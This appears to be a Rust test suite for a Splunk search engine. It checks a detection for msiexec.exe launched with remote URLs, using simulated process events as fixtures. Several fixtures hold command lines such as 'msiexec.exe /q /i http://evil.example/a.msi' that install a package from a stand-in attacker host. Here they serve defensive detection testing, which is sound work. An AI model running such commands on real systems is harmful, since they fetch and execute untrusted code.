//! The spec's conformance vectors that run a search over pre-data-model events
//! (`../shared/spec/SPLUNK_SEMANTICS.md` section 10): CV-01…CV-14, CV-18, CV-22, CV-30, CV-31.

use cimhunt_cim::{CimEvent, CimVersion, DataModel, Field, Timestamp};
use cimhunt_exec::{ExecOptions, Executor, Groups, Row, Value};
use cimhunt_spl::{MacroSet, compile};
use jiff::tz::TimeZone;

/// `S_full`: the seed detection's search after macro expansion (spec section 0).
const S_FULL: &str = r#"| tstats summariesonly=false allow_old_summaries=true fillnull_value=null count min(_time) as firstTime max(_time) as lastTime from datamodel=Endpoint.Processes where (Processes.process_name=msiexec.exe OR Processes.original_file_name=msiexec.exe) Processes.process IN ("*http://*", "*https://*") by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.original_file_name Processes.process Processes.process_id Processes.parent_process_id | rename "Processes.*" as * | convert timeformat="%Y-%m-%dT%H:%M:%S" ctime(firstTime) | convert timeformat="%Y-%m-%dT%H:%M:%S" ctime(lastTime) | search *"#;

/// `S_nofill`: `S_full` without `fillnull_value=null`.
fn s_nofill() -> String {
    S_FULL.replace(" fillnull_value=null", "")
}

/// Base event E1, before the data model.
fn e1() -> Vec<(Field, &'static str)> {
    vec![
        (Field::Dest, "win-dc-6764986.attackrange.local"),
        (Field::User, "Administrator"),
        (Field::ParentProcessName, "cmd.exe"),
        (Field::ProcessName, "msiexec.exe"),
        (Field::OriginalFileName, "msiexec.exe"),
        (
            Field::Process,
            "msiexec.exe /q /i http://evil.example/a.msi",
        ),
        (Field::ProcessId, "2296"),
        (Field::ParentProcessId, "4624"),
    ]
}

const E1_TIME: &str = "1602155026.617";

fn with(
    mut base: Vec<(Field, &'static str)>,
    changes: &[(Field, Option<&'static str>)],
) -> Vec<(Field, &'static str)> {
    for (field, value) in changes {
        base.retain(|(f, _)| f != field);
        if let Some(v) = value {
            base.push((*field, v));
        }
    }
    base
}

/// A pre-DM event with the data model applied (CIM 6 unless stated).
fn event(fields: &[(Field, &'static str)], time: &str, version: CimVersion) -> CimEvent<'static> {
    let mut e = CimEvent::new();
    e.time = Some(Timestamp::parse_epoch_secs(time).unwrap());
    for &(f, v) in fields {
        e.push(f, v);
    }
    DataModel::new(version).apply(&mut e);
    e
}

fn run_tz(search: &str, events: &[CimEvent<'_>], tz: TimeZone) -> Vec<Row> {
    let compiled = compile(search, &MacroSet::with_builtins()).expect("search compiles");
    let exec = Executor::new(&compiled.plan);
    let mut groups = Groups::new();
    for e in events {
        exec.add(&mut groups, e);
    }
    exec.finish(groups, &ExecOptions { tz }).expect("rows")
}

fn run(search: &str, events: &[CimEvent<'_>]) -> Vec<Row> {
    run_tz(search, events, TimeZone::UTC)
}

/// R1 with some columns changed.
fn r1(changes: &[(&str, &str)]) -> Row {
    let mut row = Row::from_texts(&[
        ("dest", "win-dc-6764986.attackrange.local"),
        ("user", "Administrator"),
        ("parent_process_name", "cmd.exe"),
        ("process_name", "msiexec.exe"),
        ("original_file_name", "msiexec.exe"),
        ("process", "msiexec.exe /q /i http://evil.example/a.msi"),
        ("process_id", "2296"),
        ("parent_process_id", "4624"),
    ]);
    row.set("count", Value::Number("1".into()));
    row.set("firstTime", Value::Text("2020-10-08T11:03:46".into()));
    row.set("lastTime", Value::Text("2020-10-08T11:03:46".into()));
    for (n, v) in changes {
        let value = if *n == "count" {
            Value::Number(v.to_string())
        } else {
            Value::Text(v.to_string())
        };
        row.set(*n, value);
    }
    row
}

#[test]
fn cv01_basic_positive() {
    let rows = run(S_FULL, &[event(&e1(), E1_TIME, CimVersion::V6)]);
    assert_eq!(rows, vec![r1(&[])]);
    let names: Vec<_> = rows[0].names().collect();
    assert_eq!(
        names,
        [
            "dest",
            "user",
            "parent_process_name",
            "process_name",
            "original_file_name",
            "process",
            "process_id",
            "parent_process_id",
            "count",
            "firstTime",
            "lastTime"
        ]
    );
}

#[test]
fn cv02_case_insensitive_match_case_preserving_output() {
    let fields = with(
        e1(),
        &[
            (Field::ProcessName, Some("MsiExec.EXE")),
            (Field::OriginalFileName, None),
            (
                Field::Process,
                Some("MSIEXEC.EXE /i HTTPS://Evil.Example/A.MSI"),
            ),
        ],
    );
    let rows = run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V6)]);
    let expected = r1(&[
        ("process_name", "MsiExec.EXE"),
        ("original_file_name", "unknown"),
        ("process", "MSIEXEC.EXE /i HTTPS://Evil.Example/A.MSI"),
    ]);
    assert_eq!(rows, vec![expected]);
}

#[test]
fn cv03_no_url() {
    let fields = with(
        e1(),
        &[(Field::Process, Some(r"msiexec.exe /i C:\temp\a.msi"))],
    );
    assert!(run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V6)]).is_empty());
}

#[test]
fn cv04_renamed_binary_caught_by_original_file_name() {
    let fields = with(
        e1(),
        &[
            (Field::ProcessName, Some("update.exe")),
            (Field::Process, Some("update.exe /i http://x.example/a.msi")),
        ],
    );
    let rows = run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V6)]);
    let expected = r1(&[
        ("process_name", "update.exe"),
        ("process", "update.exe /i http://x.example/a.msi"),
    ]);
    assert_eq!(rows, vec![expected]);
}

#[test]
fn cv05_neither_name_matches() {
    let fields = with(
        e1(),
        &[
            (Field::ProcessName, Some("update.exe")),
            (Field::OriginalFileName, Some("Update.exe")),
        ],
    );
    assert!(run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V6)]).is_empty());
}

#[test]
fn cv06_null_pid_kept_as_null_string() {
    let fields = with(e1(), &[(Field::ParentProcessId, None)]);
    let rows = run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V6)]);
    assert_eq!(rows, vec![r1(&[("parent_process_id", "null")])]);
}

#[test]
fn cv07_null_pid_dropped_without_fillnull_value() {
    let fields = with(e1(), &[(Field::ParentProcessId, None)]);
    assert!(run(&s_nofill(), &[event(&fields, E1_TIME, CimVersion::V6)]).is_empty());
}

#[test]
fn cv08_data_model_fill_is_unknown_not_null() {
    let fields = with(e1(), &[(Field::User, Some("")), (Field::Dest, None)]);
    let rows = run(&s_nofill(), &[event(&fields, E1_TIME, CimVersion::V6)]);
    assert_eq!(rows, vec![r1(&[("user", "unknown"), ("dest", "unknown")])]);
}

#[test]
fn cv09_aggregation() {
    let events = [
        event(&e1(), E1_TIME, CimVersion::V6),
        event(&e1(), "1602155110.25", CimVersion::V6),
    ];
    let rows = run(S_FULL, &events);
    assert_eq!(
        rows,
        vec![r1(&[("count", "2"), ("lastTime", "2020-10-08T11:05:10")])]
    );
}

#[test]
fn cv10_grouping_and_order() {
    let e2 = with(e1(), &[(Field::ProcessId, Some("3100"))]);
    // Fed in reverse order: the output order must not depend on input order.
    let events = [
        event(&e2, "1602155110.25", CimVersion::V6),
        event(&e1(), E1_TIME, CimVersion::V6),
    ];
    let rows = run(S_FULL, &events);
    let second = r1(&[
        ("process_id", "3100"),
        ("firstTime", "2020-10-08T11:05:10"),
        ("lastTime", "2020-10-08T11:05:10"),
    ]);
    assert_eq!(rows, vec![r1(&[]), second]);
}

#[test]
fn cv11_duplicates_are_counted() {
    let events = [
        event(&e1(), E1_TIME, CimVersion::V6),
        event(&e1(), E1_TIME, CimVersion::V6),
    ];
    assert_eq!(run(S_FULL, &events), vec![r1(&[("count", "2")])]);
}

#[test]
fn cv12_sub_second_truncation() {
    let rows = run(S_FULL, &[event(&e1(), "1602155026.999", CimVersion::V6)]);
    assert_eq!(rows, vec![r1(&[])]);
}

#[test]
fn cv13_display_time_zone() {
    let ny = TimeZone::get("America/New_York").unwrap();
    let rows = run_tz(S_FULL, &[event(&e1(), E1_TIME, CimVersion::V6)], ny);
    let expected = r1(&[
        ("firstTime", "2020-10-08T07:03:46"),
        ("lastTime", "2020-10-08T07:03:46"),
    ]);
    assert_eq!(rows, vec![expected]);
}

#[test]
fn cv14_anchoring_and_empty_match() {
    let a = with(e1(), &[(Field::Process, Some("http://evil.example/a.msi"))]);
    assert_eq!(run(S_FULL, &[event(&a, E1_TIME, CimVersion::V6)]).len(), 1);
    let b = with(
        e1(),
        &[(Field::Process, Some("msiexec /i hxxp://evil.example/a.msi"))],
    );
    assert!(run(S_FULL, &[event(&b, E1_TIME, CimVersion::V6)]).is_empty());
    let c = with(
        e1(),
        &[(Field::Process, Some("msiexec /i http:/evil.example"))],
    );
    assert!(run(S_FULL, &[event(&c, E1_TIME, CimVersion::V6)]).is_empty());
}

fn one_column(rows: &[Row]) -> Vec<(String, String, String)> {
    rows.iter()
        .map(|r| {
            let (name, value) = &r.cells()[0];
            let count = r
                .get("count")
                .and_then(Value::first)
                .unwrap_or("")
                .to_owned();
            (name.clone(), value.first().unwrap_or("").to_owned(), count)
        })
        .collect()
}

#[test]
fn cv15_only_star_is_a_wildcard() {
    let events = [event(&e1(), E1_TIME, CimVersion::V6)];
    let q = "| tstats count from datamodel=Endpoint.Processes where Processes.process_name=msiexe?.exe by Processes.process_name";
    assert!(run(q, &events).is_empty());
    let s = q.replace('?', "*");
    let expected = vec![(
        "Processes.process_name".into(),
        "msiexec.exe".into(),
        "1".into(),
    )];
    assert_eq!(one_column(&run(&s, &events)), expected);
}

#[test]
fn cv16_or_binds_tighter_than_and() {
    let p = |name: &'static str, process: &'static str| {
        event(
            &[(Field::ProcessName, name), (Field::Process, process)],
            E1_TIME,
            CimVersion::V6,
        )
    };
    let events = [
        p("notepad.exe", "notepad.exe a.txt"),
        p("msiexec.exe", "msiexec /i http://x"),
        p("notepad.exe", "notepad http://x"),
    ];
    let q = r#"| tstats count from datamodel=Endpoint.Processes where Processes.process_name=notepad.exe OR Processes.process_name=msiexec.exe Processes.process="*http*" by Processes.process"#;
    let expected = vec![
        (
            "Processes.process".into(),
            "msiexec /i http://x".into(),
            "1".into(),
        ),
        (
            "Processes.process".into(),
            "notepad http://x".into(),
            "1".into(),
        ),
    ];
    assert_eq!(one_column(&run(q, &events)), expected);
}

#[test]
fn cv18_not_equal_inside_the_data_model_sees_unknown() {
    let fields = with(e1(), &[(Field::OriginalFileName, None)]);
    let q = "| tstats count from datamodel=Endpoint.Processes where Processes.original_file_name!=msiexec.exe by Processes.original_file_name";
    let rows = run(q, &[event(&fields, E1_TIME, CimVersion::V6)]);
    let expected = vec![(
        "Processes.original_file_name".into(),
        "unknown".into(),
        "1".into(),
    )];
    assert_eq!(one_column(&rows), expected);
}

#[test]
fn cv19_backslash_escaping() {
    let fields = with(
        e1(),
        &[(Field::ProcessPath, Some(r"C:\Windows\Temp\msiexec.exe"))],
    );
    let events = [event(&fields, E1_TIME, CimVersion::V6)];
    let query = |p: &str| {
        format!(
            "| tstats count from datamodel=Endpoint.Processes where Processes.process_path={p} by Processes.process_path"
        )
    };
    let hit = vec![(
        "Processes.process_path".into(),
        r"C:\Windows\Temp\msiexec.exe".into(),
        "1".into(),
    )];
    assert_eq!(
        one_column(&run(&query(r#""*\\Windows\\Temp\\*""#), &events)),
        hit
    );
    assert_eq!(
        one_column(&run(&query(r#""*\Windows\Temp\*""#), &events)),
        hit
    );
    assert!(run(&query(r#""*\\\\Windows*""#), &events).is_empty());
}

#[test]
fn cv20_escaped_double_quote() {
    let fields = with(
        e1(),
        &[(
            Field::Process,
            Some(r#"msiexec /i "http://x.example/a.msi""#),
        )],
    );
    let events = [event(&fields, E1_TIME, CimVersion::V6)];
    let q = |p: &str| {
        format!(
            "| tstats count from datamodel=Endpoint.Processes where Processes.process={p} by Processes.process"
        )
    };
    assert_eq!(run(&q(r#""*\"http://*""#), &events).len(), 1);
    assert!(run(&q(r#""*/i http://*""#), &events).is_empty());
}

#[test]
fn cv22_multi_value_field_counts_in_each_group() {
    let fields = [
        (Field::ProcessName, "a.exe"),
        (Field::ProcessName, "msiexec.exe"),
        (Field::Process, "x http://y"),
    ];
    let q = "| tstats count from datamodel=Endpoint.Processes where Processes.process_name=msiexec.exe by Processes.process_name";
    let rows = run(q, &[event(&fields, E1_TIME, CimVersion::V6)]);
    let expected = vec![
        ("Processes.process_name".into(), "a.exe".into(), "1".into()),
        (
            "Processes.process_name".into(),
            "msiexec.exe".into(),
            "1".into(),
        ),
    ];
    assert_eq!(one_column(&rows), expected);
}

#[test]
fn cv30_cim_version_changes_the_process_name_fallback() {
    let fields = with(
        e1(),
        &[
            (Field::ProcessName, None),
            (Field::OriginalFileName, None),
            (
                Field::Process,
                Some(r#""C:\Windows\System32\msiexec.exe" /i http://x.example/a.msi"#),
            ),
        ],
    );
    assert!(run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V5)]).is_empty());
    let rows = run(S_FULL, &[event(&fields, E1_TIME, CimVersion::V6)]);
    assert_eq!(rows.len(), 1);
    assert_eq!(
        rows[0].get("process_name"),
        Some(&Value::Text("msiexec.exe".into()))
    );
    assert_eq!(
        rows[0].get("original_file_name"),
        Some(&Value::Text("unknown".into()))
    );
}

#[test]
fn cv31_integrity_level_is_lowercased() {
    let fields = with(e1(), &[(Field::ProcessIntegrityLevel, Some("High"))]);
    let q = "| tstats count from datamodel=Endpoint.Processes by Processes.process_integrity_level";
    let rows = run(q, &[event(&fields, E1_TIME, CimVersion::V6)]);
    let expected = vec![(
        "Processes.process_integrity_level".into(),
        "high".into(),
        "1".into(),
    )];
    assert_eq!(one_column(&rows), expected);
}

/// Aggregation state is merged across workers (and later machines): any split of the events,
/// merged in any order and grouping, must give the rows of one pass. The values mix numbers and
/// text, and sums whose floating-point result depends on the order of addition.
#[test]
fn merged_partial_states_equal_one_pass() {
    const PIDS: [&str; 10] = [
        "0.1",
        "0.2",
        "0.3",
        "10000000000000000",
        "1",
        "-10000000000000000",
        "1a",
        "abc",
        "9",
        "10",
    ];
    let events: Vec<_> = (0..60)
        .map(|i| {
            let time: &'static str =
                Box::leak(format!("1602155{:03}.5", i * 13 % 997).into_boxed_str());
            let pid = PIDS[i * 7 % PIDS.len()];
            event(
                &with(e1(), &[(Field::ProcessId, Some(pid))]),
                time,
                CimVersion::V6,
            )
        })
        .collect();
    let aggregates = "count min(_time) as firstTime max(_time) as lastTime \
        values(Processes.process_id) as pids dc(Processes.process_id) as n \
        latest(Processes.process_id) as last sum(Processes.process_id) as total \
        avg(Processes.process_id) as mean min(Processes.process_id) as low \
        max(Processes.process_id) as high";
    for by in ["Processes.dest", "Processes.process_id"] {
        let q = format!(
            "| tstats {aggregates} from datamodel=Endpoint.Processes \
             where Processes.process_name=msiexec.exe by {by}"
        );
        let compiled = compile(&q, &MacroSet::with_builtins()).unwrap();
        let exec = Executor::new(&compiled.plan);
        let options = ExecOptions::default();
        let mut whole = Groups::new();
        for e in &events {
            exec.add(&mut whole, e);
        }
        let expected = exec.finish(whole, &options).unwrap();
        for split in [1, 2, 5, 7] {
            let mut parts = [Groups::new(), Groups::new(), Groups::new()];
            for (i, e) in events.iter().enumerate() {
                exec.add(&mut parts[(i / split) % 3], e);
            }
            let [a, b, c] = parts;
            // (a + b) + c
            let mut left = a.clone();
            exec.merge(&mut left, b.clone());
            exec.merge(&mut left, c.clone());
            // c + (b + a)
            let mut right = b;
            exec.merge(&mut right, a);
            let mut outer = c;
            exec.merge(&mut outer, right);
            for (how, merged) in [("(a+b)+c", left), ("c+(b+a)", outer)] {
                let rows = exec.finish(merged, &options).unwrap();
                assert_eq!(rows, expected, "by {by}, split {split}, {how}");
            }
        }
    }
}
